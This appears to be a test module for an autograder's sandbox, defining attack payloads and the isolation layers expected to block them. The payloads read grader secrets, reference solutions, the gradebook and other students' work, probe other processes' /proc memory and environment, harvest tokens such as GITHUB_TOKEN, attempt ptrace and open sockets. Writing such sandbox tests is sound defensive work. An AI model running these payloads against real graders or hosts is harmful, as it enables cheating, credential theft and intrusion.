"""Attacks on what is secret: checks, references, seeds, marks, other people's work, and the network to carry it off."""

from __future__ import annotations

from tests.attacks.attack import BOXED, LOST, NO_CALLS, NO_FILES, PERHAPS, Attack

# An answer that tries something when it is first called, confesses, and is never right.
ASKED = """
tried = []
def log_sum_exp(x):
    if not tried:
        tried.append(1)
        explore(x)
    confess()
    raise ValueError("nothing was found")
"""

FRAMES = """
WORDS = ("expected", "tolerance", "calibration", "seed", "verdict", "max_points", "examples", "replies")
def explore(x):
    there = sys._getframe(0)
    while there is not None:
        for where in (there.f_locals, there.f_globals):
            for name, value in list(where.items()):
                if there.f_globals.get("__name__") != "__main__" and name in WORDS:
                    attempt("a frame", lambda: repr(value)[:1000] if name != "seed" else None)
                if isinstance(value, str) and "CANARY-" in value and there.f_globals.get("__name__") != "__main__":
                    attempt("a frame", lambda: value)
        there = there.f_back
"""

OBJECTS = """
def explore(x):
    import gc, socket, types
    gc.unfreeze()
    for thing in gc.get_objects():
        kind = f"{type(thing).__module__}.{type(thing).__qualname__}"
        if kind.startswith("autograder") and type(thing).__qualname__ in (
            "Bench", "Week", "Course", "Check", "Exercise", "Material", "Trial", "Calibration", "Report", "Zygote",
        ):
            attempt("an object", lambda: kind)
        if isinstance(thing, types.ModuleType) and thing.__dict__.get("__name__") in ("canary_reference", "assignment"):
            attempt("a module", lambda: thing.__dict__["__name__"])
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, (str, bytes)) and re.fullmatch(r"CANARY-[a-z]+-[0-9a-f]{8}", str(value)):
                    attempt("an object", lambda: str(value))
"""

GLOBALS = """
def explore(x):
    import types
    seen, waiting = set(), [f.f_globals for f in sys._current_frames().values()]
    waiting += [vars(module) for module in list(sys.modules.values()) if module]
    for names in waiting:
        if id(names) in seen or len(seen) > 20_000:
            continue
        seen.add(id(names))
        for name, value in list(names.items()):
            if isinstance(value, types.FunctionType):
                waiting.append(value.__globals__)
                for cell in value.__closure__ or ():
                    attempt("a closure", lambda: isinstance(cell.cell_contents, str)
                            and "CANARY-" in cell.cell_contents and cell.cell_contents)
            if isinstance(value, str) and re.fullmatch(r"CANARY-[a-z]+-[0-9a-f]{8}", value):
                attempt("a global", lambda: value)
"""

# The heap that the zygote has left: strings stay there after they are let go of.
MEMORY = """
def explore(x):
    import re
    mine = re.compile(rb"CANARY-(?:config|reference|hidden|accepted|gradebook|neighbour|environment)-[0-9a-f]{8}")
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(n, 16) for n in span.split("-"))
            if rights[:2] != "rw" or end - start > 64 << 20:
                continue
            try:
                memory.seek(start)
                found = mine.findall(memory.read(end - start))
            except OSError:
                continue
            if found:
                attempt("own memory", lambda: found[0].decode())
"""

READING = """
def ways(path):
    "Several ways to read one file."
    import ctypes, io, shutil
    yield lambda: text_of(path)
    yield lambda: text_of("/proc/self/root" + path)
    yield lambda: text_of("/proc/1/root" + path)
    yield lambda: text_of(f"/proc/{os.getppid()}/root" + path)
    yield lambda: text_of(os.path.relpath(path))
    yield lambda: os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=os.open(os.path.dirname(path), 0)), 9999).decode()
    def linked(make, name):
        make(path, name)
        return text_of(name)
    yield lambda: linked(os.symlink, "symbolic")
    yield lambda: linked(os.link, "hard")
    yield lambda: linked(shutil.copyfile, "copied")
    yield lambda: linked(lambda old, new: os.rename(old, new) or os.rename(new, old), "moved")
    def mapped():
        import mmap
        with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as pages:
            return pages[:].decode(errors="replace")
    yield mapped
    def native():
        libc = ctypes.CDLL(None)
        buffer = ctypes.create_string_buffer(9999)
        fd = libc.open(path.encode(), 0)
        return fd >= 0 and libc.read(fd, buffer, 9999) > 0 and buffer.value.decode(errors="replace")
    yield native
    yield lambda: torch.from_file(path, size=os.path.getsize(path), dtype=torch.uint8).numpy().tobytes().decode(errors="replace")
    yield lambda: shutil.copytree(os.path.dirname(path), "tree") and text_of("tree/" + os.path.basename(path))

def read(what, path):
    for way in ways(path):
        attempt(what, way)
    attempt(what + " name", lambda: os.path.basename(path) in os.listdir(os.path.dirname(path)))
"""

IMPORTING = """
def imported(what, name):
    def bring():
        sys.path.insert(0, COURSE)
        module = __import__(name)
        return module.SECRET
    attempt(what, bring)
"""

JUDGE = """
def judges():
    "Processes that may be the judge, from the nearest parent to all that can be seen."
    yield from parents()
    yield from (int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid())
"""

ENVIRON = (
    JUDGE
    + """
for pid in list(judges())[:500]:
    attempt("environ of another process", lambda: "PATH=" in text_of(f"/proc/{pid}/environ") and text_of(f"/proc/{pid}/environ"))
"""
)

MEM = (
    JUDGE
    + """
def memory(pid):
    # PYTHONPATH, or whatever stands at the top of the stack, is enough to see that it can be read.
    span = [line.split()[0] for line in text_of(f"/proc/{pid}/maps").splitlines() if "[stack]" in line][0]
    start, end = (int(n, 16) for n in span.split("-"))
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        file.seek(end - 65536)
        return bool(file.read(65536))
for pid in parents():
    attempt("memory of a parent", lambda: memory(pid))
    attempt("memory of a parent", lambda: bool(os.open(f"/proc/{pid}/mem", os.O_RDWR)))
"""
)

CMDLINE = (
    JUDGE
    + """
for pid in list(judges())[:500]:
    attempt("command line of another process", lambda: bool(text_of(f"/proc/{pid}/cmdline")))
    for name in ("maps", "status", "cwd", "exe", "ns/net", "stack", "syscall", "io", "auxv"):
        attempt(f"{name.split('/')[0]} of another process", lambda: bool(text_of(f"/proc/{pid}/{name}"))
                if name in ("maps", "io", "auxv") else None)
"""
)

FD = (
    JUDGE
    + """
for pid in parents():
    def files():
        return [os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd")]
    attempt("descriptors of a parent", lambda: bool(files()))
    def taken():
        import ctypes
        pidfd = os.pidfd_open(pid)
        got = ctypes.CDLL(None, use_errno=True).syscall(438, pidfd, 0, 0)  # pidfd_getfd
        return got >= 0
    attempt("a descriptor of a parent", taken)
"""
)

PTRACE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
SEIZE, DETACH = 0x4206, 17
def seized(pid):
    if libc.ptrace(SEIZE, pid, None, None) != 0:
        return False
    libc.ptrace(DETACH, pid, None, None)
    return True
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def peeked(pid):
    # Forked, so that what lies here lies there.
    buffer = ctypes.create_string_buffer(16)
    here = Vector(ctypes.addressof(buffer), 16)
    there = Vector(id(sys), 16)
    return libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0
for pid in parents()[:2]:
    attempt("ptrace", lambda: seized(pid))
attempt("memory of the zygote", lambda: peeked(os.getppid()))
"""

DESCRIPTORS = """
import socket, stat
def explore(x):
    for n in range(4096):
        try:
            kind = os.fstat(n).st_mode
            name = os.readlink(f"/proc/self/fd/{n}") if os.path.exists("/proc/self/fd") else ""
        except OSError:
            continue
        if stat.S_ISREG(kind) and not name.startswith("/memfd"):
            attempt("a file", lambda: os.pread(n, 1 << 20, 0).decode(errors="replace") or "open")
        if stat.S_ISDIR(kind):
            attempt("a folder", lambda: str(os.listdir(n)))
        if stat.S_ISFIFO(kind):
            attempt("a pipe", lambda: True)
        if stat.S_ISSOCK(kind) and n != 3:
            # IPython's event loop has a pair of its own.
            def foreign():
                other = socket.socket(fileno=os.dup(n))
                return other.getsockopt(socket.SOL_SOCKET, 17) and peer(other) != os.getpid()
            attempt("a socket", foreign)
    attempt("standard input", lambda: os.read(0, 100) or None)

def peer(other):
    import struct
    return struct.unpack("3i", other.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
"""

ENVIRONMENT = """
def explore(x):
    import ctypes
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    for name in ("AUTOGRADER_TEST_SECRET", "AUTOGRADER_COURSE", "PATH_INFO", "SSH_AUTH_SOCK", "GITHUB_TOKEN"):
        attempt("a variable", lambda: os.environ.get(name))
        attempt("a variable", lambda: (libc.getenv(name.encode()) or b"").decode() or None)
    attempt("own environ", lambda: "AUTOGRADER" in text_of("/proc/self/environ") and text_of("/proc/self/environ"))
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    for i in range(1000):
        if not environ[i]:
            break
        attempt("a variable", lambda: b"AUTOGRADER" in environ[i] and environ[i].decode())
    attempt("arguments", lambda: "/" in " ".join(sys.argv + sys.orig_argv[5:]) and None)
"""

NETWORK = """
import socket, urllib.request
def connected(family, kind, address):
    with socket.socket(family, kind) as s:
        s.settimeout(0.2)
        s.connect(address)
        s.send(b"hello")
        return True
attempt("tcp", lambda: connected(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TCP)))
attempt("tcp", lambda: bool(socket.create_connection(("localhost", TCP), 0.2)))
attempt("udp", lambda: connected(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", UDP)))
attempt("unix", lambda: connected(socket.AF_UNIX, socket.SOCK_STREAM, UNIX))
attempt("abstract", lambda: connected(socket.AF_UNIX, socket.SOCK_STREAM, ABSTRACT))
for address in (DATAGRAM, ABSTRACT + "-datagram"):
    # A pair may be made: event loops need it. Its ends can be sent from to others.
    attempt("datagram", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"hello", address) == 5)
    attempt("datagram", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].connect(address) is None)
    attempt("datagram", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendmsg([b"hello"], [], 0, address) == 5)
attempt("http", lambda: urllib.request.urlopen(f"http://127.0.0.1:{TCP}/", timeout=0.2))
def listening(family, address):
    with socket.socket(family) as s:
        s.bind(address)
        s.listen()
        return True
attempt("listening", lambda: listening(socket.AF_INET, ("127.0.0.1", 0)))
attempt("listening unix", lambda: listening(socket.AF_UNIX, "mine"))
attempt("netlink", lambda: bool(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)))
attempt("raw", lambda: bool(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)) if os.getuid() == 0 else None)
attempt("packet", lambda: bool(socket.socket(17, socket.SOCK_RAW, 768)) if os.getuid() == 0 else None)
attempt("vsock", lambda: connected(40, socket.SOCK_STREAM, (2, 1)))
def asynchronous():
    import asyncio
    async def go():
        _, writer = await asyncio.open_connection("127.0.0.1", TCP)
        writer.close()
        return True
    return asyncio.new_event_loop().run_until_complete(go())
attempt("tcp", asynchronous)
"""
# What the first guest leaves, the second looks for: it is made when the first dies over a cell.
LEFTOVERS = """
import glob, socket, ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
NAME = "left-by-a-guest"
PLACES = [os.getcwd(), os.path.dirname(os.getcwd()), TEMPORARY, "/tmp", "/dev/shm", "/var/tmp",
          os.path.expanduser("~"), COURSE]
def shared(size, flags):
    return libc.shmget(0x5ec2e7, size, flags)
def look():
    for place in PLACES:
        attempt("a file that was left", lambda: text_of(f"{place}/{NAME}") == "left" and clear(place))
    attempt("a segment that was left", lambda: shared(4096, 0o600) >= 0 and libc.shmctl(shared(4096, 0), 0, None) == 0)
    attempt("a socket that was left", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + NAME) is None)
    attempt("memory that was left", lambda: getattr(torch, "left", None))
    attempt("a queue that was left", lambda: ctypes.CDLL("librt.so.1").mq_open(b"/left", 0) >= 0
            and ctypes.CDLL("librt.so.1").mq_unlink(b"/left") == 0)
def clear(place):
    os.unlink(f"{place}/{NAME}")
    return True
def leave():
    for place in PLACES:
        try:
            with open(f"{place}/{NAME}", "w") as file:
                file.write("left")
        except OSError:
            pass
    for make in (lambda: shared(4096, 0o1600), lambda: setattr(torch, "left", True),
                 lambda: ctypes.CDLL("librt.so.1").mq_open(b"/left", 0o102, 0o600, None)):
        try:
            make()
        except Exception:
            pass
look()
"""

PRINTS = """
import logging, warnings
def log_sum_exp(x):
    words = f"SPOKEN {x.tolist()}"
    print(words)
    print(words, file=sys.stderr)
    for stream in (sys.__stdout__, sys.__stderr__):
        try:
            print(words, file=stream, flush=True)
        except Exception:
            pass
    for descriptor in (0, 1, 2):
        try:
            os.write(descriptor, words.encode())
        except OSError:
            pass
    display(words)
    get_ipython().display_pub.publish({"text/plain": words, "text/html": words})
    get_ipython().write(words) if hasattr(get_ipython(), "write") else None
    warnings.warn(words)
    logging.warning(words)
    logging.getLogger("autograder").error(words)
    type("Bad", (), {"__del__": lambda self: 1 / 0, "__repr__": lambda self: words})()
    import matplotlib.pyplot as plt
    plt.figure().suptitle(words)
    with open("SPOKEN", "a") as file:
        file.write(words)
    return RESULT
"""

ATTACKS = [
    Attack(
        "frames",
        ["`sys._getframe(1).f_locals`"],
        first=FRAMES,
        answer=ASKED,
        earns=LOST,
        says="nothing was found",
    ),
    Attack(
        "objects", ["`gc.get_objects()`"], first=OBJECTS, answer=ASKED, earns=LOST, says="nothing was found"
    ),
    Attack("globals", ["`f_globals`"], first=GLOBALS, answer=ASKED, earns=LOST, says="nothing was found"),
    Attack("own-memory", ["`gc.get_objects()`"], first=MEMORY, last="explore(None)\nconfess()"),
    Attack(
        "hidden-checks",
        ["Reading the hidden checks"],
        first=READING
        + "read('hidden checks', COURSE + '/assignments/week01_canary/hidden_checks.py')\nconfess()",
        stopped_by={"hidden checks": NO_FILES, "hidden checks name": NO_FILES},
    ),
    Attack(
        "references",
        ["Reading the references"],
        first=READING
        + IMPORTING
        + """
read('reference', COURSE + '/canary_reference.py')
read('solutions', COURSE + '/solutions/week01_canary/accepted.py')
read('configuration', COURSE + '/course.toml')
imported('reference module', 'canary_reference')
attempt('cache', lambda: bool(os.listdir(COURSE + '/.autograder')))
confess()
""",
        stopped_by=dict.fromkeys(
            [
                *("reference", "reference name", "solutions", "solutions name", "configuration"),
                *("configuration name", "reference module", "cache"),
            ],
            NO_FILES,
        ),
    ),
    Attack(
        "gradebook",
        ["Reading the gradebook"],
        first=READING
        + """
read('gradebook', COURSE + '/gradebook.db')
attempt('writing the gradebook', lambda: bool(os.open(COURSE + '/gradebook.db', os.O_RDWR)))
confess()
""",
        stopped_by=dict.fromkeys(["gradebook", "gradebook name", "writing the gradebook"], NO_FILES),
    ),
    Attack(
        "neighbours",
        ["Reading other submissions"],
        first=READING
        + """
read('neighbour', SUBMITTED + '/neighbour.ipynb')
attempt('folder', lambda: bool(os.listdir(SUBMITTED)))
for folder, _, names in os.walk(os.path.dirname(SUBMITTED)):
    for name in names:
        attempt('walk', lambda: 'CANARY-neighbour' in text_of(os.path.join(folder, name)))
confess()
""",
        stopped_by=dict.fromkeys(["neighbour", "neighbour name", "folder", "walk"], NO_FILES),
    ),
    Attack(
        "environ-of-the-judge",
        ["`/proc/<judge>/environ`"],
        first=ENVIRON,
        last="confess()",
        stopped_by={"environ of another process": (*NO_FILES, PERHAPS)},
    ),
    Attack(
        "memory-of-the-judge",
        ["`/proc/<judge>/mem`"],
        first=MEM,
        last="confess()",
        stopped_by={"memory of a parent": (*NO_FILES, PERHAPS)},
    ),
    Attack(
        "command-line-of-the-judge",
        ["`/proc/<judge>/cmdline`"],
        first=CMDLINE,
        last="confess()",
        stopped_by=dict.fromkeys(
            ["command line of another process", *(f"{n} of another process" for n in ("maps", "io", "auxv"))],
            (*NO_FILES, PERHAPS),
        ),
    ),
    Attack(
        "descriptors-of-the-judge",
        ["`/proc/<judge>/fd`"],
        first=FD,
        last="confess()",
        stopped_by={
            "descriptors of a parent": (*NO_FILES, PERHAPS),
            "a descriptor of a parent": (*NO_FILES, PERHAPS),
        },
    ),
    Attack(
        "ptrace",
        ["ptrace"],
        first=PTRACE,
        last="confess()",
        stopped_by={
            "ptrace": ("landlock", *NO_CALLS, PERHAPS),
            "memory of the zygote": ("landlock", *NO_CALLS, PERHAPS),
        },
    ),
    Attack(
        "descriptors",
        ["Inherited descriptors"],
        first=DESCRIPTORS,
        answer=ASKED,
        earns=LOST,
        says="nothing was found",
    ),
    Attack(
        "environment",
        ["Environment secrets"],
        first=ENVIRONMENT,
        answer=ASKED,
        earns=LOST,
        says="nothing was found",
    ),
    Attack(
        "network",
        ["Network of any kind"],
        first=NETWORK,
        last="confess()",
        stopped_by={
            **dict.fromkeys(["tcp", "udp", "unix", "datagram", "abstract"], (*NO_CALLS, *BOXED)),
            **dict.fromkeys(["listening", "listening unix", "netlink"], NO_CALLS),
            **dict.fromkeys(["http", "raw", "packet", "vsock"], (*NO_CALLS, PERHAPS)),
        },
    ),
    Attack(
        "leftovers",
        ["Leftovers of another guest"],
        first=LEFTOVERS,
        answer="def log_sum_exp(x):\n    confess()\n    raise ValueError('nothing was found')",
        last="leave()\nos._exit(0)",
        earns=LOST,
        says="ended itself with exit status 0; the cell was left out",
        stopped_by={
            "a file that was left": ("landlock",),
            "a segment that was left": NO_CALLS,
            "a queue that was left": (*NO_CALLS, PERHAPS),
        },
    ),
    *(
        Attack(
            f"prints-{kind}",
            ["Hidden inputs printed into the feedback"],
            answer=PRINTS.replace("RESULT", result),
            earns={} if kind == "right" else LOST,
            silent="SPOKEN",
        )
        for kind, result in (("right", "right(x)"), ("wrong", "x.sum(-1) - 1000"))
    ),
    Attack(
        "telling-errors",
        ["Tracebacks that quote expected values"],
        first=FRAMES,
        answer="""
class Telling(Exception):
    def __str__(self):
        explore(None)
        frames = []
        there = sys._getframe(0)
        while there is not None:
            if there.f_globals.get("__name__", "").startswith("autograder"):
                frames += [str(name) for name in there.f_locals]
            there = there.f_back
        told = {"expected", "reference", "tolerance", "calibration"} & set(frames)
        return f"TOLD {sorted(told)} {FOUND}"
def log_sum_exp(x):
    raise Telling from Telling()
""",
        earns=LOST,
        says=r"it raises Telling: TOLD \[\] \[\]",
    ),
]
